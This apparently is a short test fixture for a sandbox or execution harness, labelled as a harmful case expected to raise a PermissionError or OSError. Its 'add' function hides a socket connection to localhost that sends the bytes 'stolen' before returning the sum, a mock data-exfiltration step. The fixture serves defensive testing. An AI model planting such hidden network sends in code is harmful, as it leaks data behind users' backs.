# expect: tests=error:PermissionError, tests=error:OSError
# kind: harm
import socket
def add(a, b):
    with socket.create_connection(('127.0.0.1', @PORT@), 1) as peer: peer.sendall(b'stolen')
    return a+b
